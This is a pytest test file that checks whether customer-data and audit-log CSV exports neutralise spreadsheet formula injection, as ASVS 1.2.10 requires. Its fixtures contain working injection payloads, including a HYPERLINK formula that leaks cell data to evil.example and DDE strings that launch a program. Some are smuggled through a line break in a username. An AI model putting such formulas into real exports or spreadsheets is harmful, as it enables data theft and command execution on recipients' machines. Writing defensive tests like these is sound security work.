"""CSV formula injection (ASVS 5.0 1.2.10; A6 36): no cell of any export a spreadsheet opens
starts a formula. ASVS names the characters: = + - @ tab and NUL as the first character of a
field (OWASP adds carriage return); such a field gets a leading apostrophe. Numbers stay
numbers.

Two exports exist: customer data under a grant's export action (`broker.export_csv`) and the
audit log for auditors (`oversight.export_events`). Both are driven here with hostile values
where an attacker can put them: a customer's own data, a justification or reason, a display
name from the identity provider.

Already covered, not repeated: `neutralize` on single values and one HYPERLINK in a
watermarked export (tests/access/data/test_broker.py).
"""

from __future__ import annotations

import csv
import io
import tomllib
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import update

from access import oversight
from access.data import broker
from access.data.customer_db.schema import Contact
from access.identity.sessions import resume
from access.workflow import grants
from audit.export_stream import ExportFormat
from tests.adversarial.support import ROOT, World, granted, world
from tests.support.mfa_helpers import enroll

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")  # ASVS 1.2.10, plus OWASP's CR
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]


@pytest.fixture(scope="module")
def w(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
      ) -> Iterator[World]:
    with world(request, "sqlite", tmp_path_factory.mktemp("csv")) as built:
        yield built


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def starts_a_formula(cell: str) -> bool:
    return cell.startswith(TRIGGERS)


@pytest.mark.parametrize("formula", FORMULAS, ids=[repr(f[:6]) for f in FORMULAS])
def test_customer_data_exports_neutralise_every_formula_a_customer_could_plant(
        w: World, formula: str) -> None:
    """The customer's own users fill in their job titles; support exports them."""
    assert w.data is not None
    grant_id = granted(w.gh, w.people, customer="cust-0006", actions=("read", "export"))
    with w.data.engine("production").begin() as conn:
        planted = conn.execute(update(Contact).where(Contact.customer_id == "cust-0006")
                               .values(job_title=formula)).rowcount
    assert planted >= 1
    exported = broker.export_csv(w.gh, w.people.sam, grant_id, "cust-0006",
                                 "contacts").decode()
    rows = cells(exported)
    header = rows[1]
    titles = [row[header.index("contacts.job_title")] for row in rows[2:]]
    assert titles == ["'" + formula] * planted
    assert not any(starts_a_formula(c) for row in rows[1:] for c in row)


def test_the_export_watermark_stays_one_inert_line_whatever_the_subject(w: World) -> None:
    """The watermark names the exporter by the identity provider's subject; a subject with a
    line break must not start a second line holding a formula."""
    grant_id = granted(w.gh, w.people, customer="cust-0007", actions=("read", "export"))
    odd = replace(w.people.sam, sub='sam\r\n=HYPERLINK("http://evil.example","x")')
    exported = broker.export_csv(w.gh, odd, grant_id, "cust-0007", "contacts").decode()
    first, second = exported.split("\n")[:2]
    watermark = next(csv.reader([first]))
    assert watermark[0] == "# Gatehouse export, confidential" and "HYPERLINK" in first
    assert not any(starts_a_formula(c) for c in watermark)
    assert second.startswith("contacts.")  # the header row follows at once


def test_audit_exports_neutralise_formulas_in_every_text_an_attacker_controls(
        w: World, tmp_path: Path) -> None:
    """A display name chosen at the identity provider, a justification, a revocation reason:
    each lands in the audit log as typed, and in the auditor's CSV defused."""
    gh, people = w.gh, w.people
    named, _, _ = enroll(gh, resume(gh, w.idp.token("mallory", ["support"],
                                                    name="=cmd|' /C calc'!A0")))
    assert named.name == "=cmd|' /C calc'!A0"
    planted = {"=cmd|' /C calc'!A0"}
    for formula in FORMULAS[:4]:
        text = formula + " (SUP-1)"
        grant_id = granted(gh, people, customer="cust-0008")
        grants.revoke(gh, people.ada, grant_id, text)
        planted.add(text)
    directory = tmp_path / "audit-export"
    written = oversight.export_events(gh, people.audrey, oversight.event_filter(),
                                     ExportFormat.CSV, directory)
    rows = [row for part in written.parts for row in cells(part.read_text())]
    flat = [cell for row in rows for cell in row]
    assert not [c for c in flat if starts_a_formula(c)]
    for text in planted:
        assert "'" + text in flat


def test_the_only_export_of_customer_data_is_the_audited_one() -> None:
    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert settings.get("client", {}).get("disableDataExport") is True
